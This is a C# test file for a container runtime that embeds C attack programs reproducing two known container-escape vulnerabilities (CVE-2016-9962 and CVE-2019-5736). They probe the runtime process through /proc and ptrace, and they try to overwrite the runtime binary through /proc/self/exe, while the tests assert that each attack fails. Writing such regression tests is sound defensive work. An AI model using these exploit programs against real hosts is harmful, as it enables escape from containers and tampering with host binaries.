using System.Security.Cryptography;

namespace Gantry.Runtime.Tests.Attacks;

/// <summary>A container's process against the runtime's process that comes to start another one beside it.</summary>
public sealed class JoinAttackTests(RuntimeFixture fixture) : IClassFixture<RuntimeFixture>
{
    private const int Execs = 25;

    // Looks at every process that is new, all the time, and tries what needs the right to trace it. What succeeds counts when
    // the process was not yet a program of the container.
    private const string Watcher = """
        static void report(const char *what, int pid)
        {
            char path[64], name[64] = "";
            snprintf(path, sizeof path, "/proc/%d/comm", pid);
            FILE *comm = fopen(path, "r");
            if (!comm) return;
            fgets(name, sizeof name, comm);
            fclose(comm);
            if (name[0] && strncmp(name, "busybox", 7) && strncmp(name, "watch", 5)) printf("%s of %s", what, name);
        }

        static void try_process(int pid)
        {
            static const char *names[] = { "exe", "root/.", "cwd/.", "mem", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5", "fd/6",
                "fd/7", "fd/8", "fd/9", "fd/10", "fd/11", "fd/12", "fd/13", "fd/14", "fd/15", "environ", "ns/mnt", 0 };
            char path[64];
            for (const char **name = names; *name; name++) {
                snprintf(path, sizeof path, "/proc/%d/%s", pid, *name);
                int file = open(path, strcmp(*name, "mem") && strcmp(*name, "environ") ? O_PATH : O_RDONLY);
                if (file >= 0) { report(*name, pid); close(file); }
            }
            // By a child, whose end lets go of what it traces.
            if (!fork()) {
                if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) { report("traced", pid); fflush(stdout); }
                _exit(0);
            }
            wait(0);
            fflush(stdout);
        }

        int main(int count, char **arguments)
        {
            puts("watching"); fflush(stdout);
            int known = getpid();
            for (long round = 0; round % 4096 || access("/tmp/stop", F_OK); round++) {
                // The newest process id: listing /proc would be too slow.
                FILE *load = fopen("/proc/loadavg", "r");
                int newest = 0;
                fscanf(load, "%*s %*s %*s %*s %d", &newest);
                fclose(load);
                for (int pid = newest; pid > newest - 3 && pid > 1; pid--) {
                    char path[64];
                    snprintf(path, sizeof path, "/proc/%d", pid);
                    if (!access(path, F_OK)) try_process(pid);
                }
            }
            puts("done");
            return 0;
        }
        """;

    // Holds the program of whoever runs none of the container's, lets it go on, and writes to it as soon as that is possible.
    private const string Overwriter = """
        int main(int count, char **arguments)
        {
            mkdir("/tmp/x", 0755); mkdir("/tmp/x/c", 0755);
            mkfifo("/tmp/x/c/state.json", 0644); mkfifo("/tmp/log", 0644);
            puts("watching"); fflush(stdout);
            char path[300], target[300];
            while (access("/tmp/stop", F_OK)) {
                int held = -1;
                for (int pid = 2; pid < 100 && held < 0; pid++) {
                    snprintf(path, sizeof path, "/proc/%d/exe", pid);
                    ssize_t length = readlink(path, target, sizeof target - 1);
                    target[length < 0 ? 0 : length] = 0;
                    if (length > 0 && strncmp(target, "/bin/", 5)) held = open(path, O_PATH);
                }
                if (held < 0) continue;
                printf("held %s\n", target); fflush(stdout);
                close(open("/tmp/x/c/state.json", O_RDWR));
                close(open("/tmp/log", O_RDWR));
                snprintf(path, sizeof path, "/proc/self/fd/%d", held);
                // With CAP_SYS_ADMIN: lift the mount's read-only flag, or mount the file anew.
                unsigned long change[4] = { 0, 1, 0, 0 };
                syscall(442, held, "", 0x1000, change, sizeof change);
                mount("none", path, 0, MS_REMOUNT | MS_BIND, 0);
                int copy = syscall(428, held, "", 0x1000 | 1);
                if (copy >= 0) { syscall(442, copy, "", 0x1000, change, sizeof change); snprintf(path, sizeof path, "/proc/self/fd/%d", copy); }
                chmod(path, 0777);
                for (int attempt = 0; attempt < 5000; attempt++) {
                    int file = open(path, O_WRONLY | O_APPEND);
                    if (file < 0 && errno != ETXTBSY) { printf("refused %d\n", errno); break; }
                    if (file >= 0) { if (write(file, "overwritten", 11) > 0) puts("overwritten"); close(file); break; }
                    usleep(100);
                }
                fflush(stdout);
                close(held);
            }
            puts("done");
            return 0;
        }
        """;

    /// <summary>CVE-2016-9962: until it executes its program, an exec's process has descriptors and rights of the host.</summary>
    [Fact]
    public async Task Exec_WatchedFromInside_LetsNobodyIn()
    {
        var bundle = fixture.NewBundle("", static spec => spec.Process!.Args = ["/bin/watch"]);
        AttackProgram.Install(bundle, "watch", Watcher);
        await bundle.StartAsync();
        await bundle.WaitForOutputAsync("watching");
        for (var exec = 0; exec < Execs; exec++)
        {
            Assert.Equal(0, (await fixture.RunAsync("exec", bundle.Id, "/bin/busybox", "true")).ExitCode);
        }
        await File.WriteAllTextAsync($"{bundle.Rootfs}/tmp/stop", "");
        await bundle.WaitForOutputAsync("done");
        Assert.Equal("watching\ndone\n", await bundle.OutputAsync());
    }

    /// <summary>CVE-2019-5736: a program of the container is /proc/self/exe, so that the runtime's program runs in it.</summary>
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Exec_InterpreterIsTheRuntimeItself_TheProgramStaysAsItWas(bool mayMount)
    {
        // A copy in a directory that can be written to: an attack that succeeds must not spoil the program of other tests.
        var runtime = $"{fixture.Directory}/runtime-copy-{mayMount}";
        File.Copy(fixture.RuntimePath, runtime);
        var before = SHA256.HashData(await File.ReadAllBytesAsync(runtime));
        var bundle = fixture.NewBundle("", spec =>
        {
            spec.Process!.Args = ["/bin/hold"];
            var capabilities = spec.Process.Capabilities!;
            foreach (var set in (List<string>[])[capabilities.Bounding!, capabilities.Effective!, capabilities.Permitted!])
            {
                set.AddRange(mayMount ? ["CAP_SYS_ADMIN"] : []);
            }
        });
        AttackProgram.Install(bundle, "hold", Overwriter);
        // What the runtime would do in there waits for a pipe, which gives the attacker all the time in the world.
        await File.WriteAllTextAsync($"{bundle.Rootfs}/bin/evil", "#!/proc/self/exe --log=/tmp/log\n");
        File.SetUnixFileMode($"{bundle.Rootfs}/bin/evil", (UnixFileMode)0x1ED);
        File.CreateSymbolicLink($"{bundle.Rootfs}/bin/link", "/proc/self/exe");
        await bundle.StartAsync();
        await bundle.WaitForOutputAsync("watching");
        foreach (var program in (string[])["/bin/evil", "/bin/link", "/proc/self/exe", "/bin/evil", "/bin/link"])
        {
            await fixture.RunWithAsync(runtime, "exec", bundle.Id, program, "--root", "/tmp/x", "state", "c");
        }
        await File.WriteAllTextAsync($"{bundle.Rootfs}/tmp/stop", "");
        await bundle.WaitForOutputAsync("done");
        var output = await bundle.OutputAsync();
        Assert.Contains("held", output);
        Assert.DoesNotContain("overwritten", output);
        Assert.Equal((UnixFileMode)0x1ED, File.GetUnixFileMode(runtime));
        Assert.Equal(before, SHA256.HashData(await File.ReadAllBytesAsync(runtime)));
    }
}
